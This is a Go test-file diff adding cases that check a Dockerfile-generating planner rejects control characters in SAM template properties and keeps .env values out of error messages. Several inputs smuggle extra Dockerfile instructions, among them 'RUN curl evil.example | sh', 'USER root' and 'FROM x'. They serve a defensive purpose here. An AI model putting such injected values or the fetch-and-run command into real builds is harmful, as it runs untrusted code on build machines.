@@ -226,6 +226,7 @@ func TestPlanErrors(t *testing.T) {
 		c     *compose.File
 		req   func(*Request)
 		wants []string // substrings of the error
+		never string   // not in the error (a value from .env)
 	}{
 		{
 			name:  "unknown runtime",
@@ -272,6 +273,39 @@ func TestPlanErrors(t *testing.T) {
 			wants: []string{"function img", "must lie inside Metadata.DockerContext"},
 		},
 		{
+			name: "newline in ImageUri",
+			fns: []sam.Function{{LogicalID: "Img", Name: "img", PackageType: sam.PackageImage,
+				ImageURI: "repo/img:1\nRUN curl evil.example | sh"}},
+			wants: []string{"resource Img: property ImageUri holds a control character (U+000A at byte 10)", "Dockerfile"},
+		},
+		{
+			name:  "ImageUri that is no image reference",
+			fns:   []sam.Function{{LogicalID: "Img", Name: "img", PackageType: sam.PackageImage, ImageURI: "Repo/Has Space:1"}},
+			wants: []string{"resource Img: property ImageUri", "not an image reference"},
+		},
+		{
+			name:  "carriage return in Runtime",
+			fns:   []sam.Function{zip(func(f *sam.Function) { f.LogicalID, f.Runtime = "Fn1", "python3.12\rFROM x" })},
+			wants: []string{"resource Fn1: property Runtime holds a control character (U+000D"},
+		},
+		{
+			name:  "escape in Handler",
+			fns:   []sam.Function{zip(func(f *sam.Function) { f.Handler = "app.h\x1b[2J" })},
+			wants: []string{"resource Fn: property Handler holds a control character (U+001B"},
+		},
+		{
+			name:  "newline in ImageConfig.WorkingDirectory",
+			fns:   []sam.Function{{Name: "img", PackageType: sam.PackageImage, DockerContext: "/proj/img", ImageWorkingDirectory: "/w\nUSER root"}},
+			wants: []string{"resource img: property ImageConfig.WorkingDirectory holds a control character"},
+		},
+		{
+			name:  "runtime base from .env that is no image reference",
+			fns:   []sam.Function{zip(func(f *sam.Function) { f.LogicalID = "Fn1" })},
+			req:   func(r *Request) { r.Vars = map[string]string{"RUNTIME_BASE_PYTHON3_12": "py:3\nRUN secret-value"} },
+			wants: []string{"resource Fn1: the base image of runtime python3.12 is not an image reference: fix RUNTIME_BASE_PYTHON3_12"},
+			never: "secret-value",
+		},
+		{
 			name:  "unsupported mode",
 			req:   func(r *Request) { r.Mode = "containerd" },
 			wants: []string{`mode "containerd" is not supported`, "--mode docker"},
@@ -299,6 +333,9 @@ func TestPlanErrors(t *testing.T) {
 			}
 			_, err := Plan(&sam.Template{Functions: tt.fns}, tt.c, req)
 			is.True(err != nil) // want an error
+			if tt.never != "" {
+				is.True(!strings.Contains(err.Error(), tt.never)) // the error prints no .env value
+			}
 			for _, w := range tt.wants {
 				if !strings.Contains(err.Error(), w) {
 					t.Errorf("error %q does not contain %q", err, w)
